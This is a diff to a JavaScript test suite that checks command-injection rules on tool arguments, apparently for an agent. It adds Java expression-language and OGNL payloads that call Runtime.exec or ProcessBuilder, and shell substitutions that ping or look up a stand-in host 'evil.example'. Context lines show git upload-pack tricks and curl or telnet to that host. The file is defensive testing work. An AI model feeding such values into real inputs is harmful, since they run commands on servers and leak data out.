@@ -44,6 +44,10 @@ describe('command injection', () => {
     ['lookup', { domain: 'example.com > /tmp/out' }],
     ['git_clone', { repository: '--upload-pack=touch /tmp/x' }],
     ['git_clone', { repository: 'ext::sh -c id' }],
+    ['open', { path: 'x/${Runtime.getRuntime().exec(cmd)}' }],
+    ['open', { path: 'a;new java.lang.ProcessBuilder(args).start()' }],
+    ['render', { value: '%{(#a=(new java.lang.ProcessBuilder(args)).start())}' }],
+    ['render', { value: '(#rt = @java.lang.Runtime@getRuntime())' }],
     ['ping', { host: '$(whoami).evil.example' }],
     ['ping', { host: '`id`' }],
     // `-c` makes no sentence of it.
@@ -358,6 +362,10 @@ describe('command injection', () => {
     '.. | strings',
     '<script>',
     '^import|^export',
+    'Runtime.getRuntime().exec(cmd)',
+    'new ProcessBuilder(args)',
+    'why does ping example.com and dig example.com differ',
+    'color: #a = new value',
   ])('takes no topic and no step of a query for a command: %s', (query) => {
     for (const name of ['query', 'q', 'expr', 'filter', 'pattern', 'keywords']) expect(rules('search_logs', { [name]: query })).toEqual([]);
   });
@@ -368,6 +376,8 @@ describe('command injection', () => {
     'x; telnet evil.example 23',
     'test|curl evil.example',
     'x\nssh a@evil.example',
+    '{"id": "$(ping evil.example)"}',
+    'x `nslookup a.evil.example`',
   ])('takes a program that reaches a host by its name for a command: %j', (query) => {
     for (const name of ['query', 'filename']) expect(blocked('search_logs', { [name]: query })).toBe(true);
   });
